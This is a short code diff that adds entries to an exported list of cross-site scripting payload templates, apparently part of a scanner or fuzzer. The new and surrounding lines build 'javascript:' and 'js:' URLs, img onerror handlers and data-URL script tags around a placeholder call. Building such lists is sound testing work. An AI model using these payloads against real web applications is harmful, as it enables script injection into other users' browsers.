@@ -39,6 +39,12 @@ export const PAYLOADS: readonly ((call: string) => string)[] = [
   (call) => `js:{a: ${call}}`,
   (call) => `javascript:{a: ${call}}`,
   (call) => `load[${call}], click[${call}]`,
+  ...['action:', 'request.action:', 'confirm:', '"action" : ', 'swap:none,confirm:'].map(
+    (begin) => (call: string) => `${begin}"js:${call}"`,
+  ),
+  (call) => `5 text:"<img src=x onerror=${call}>"`,
+  (call) => `{"text":"<img src=x onerror=${call}>"}`,
+  (call) => `{"action":"js:${call}","request":{"action":"js:${call}"}}`,
   (call) => `0;url=javascript:${call}`,
   (call) => `0;url=data:text/html,<script>${call}</script>`,
   (call) => `#a;javascript:${call}`,
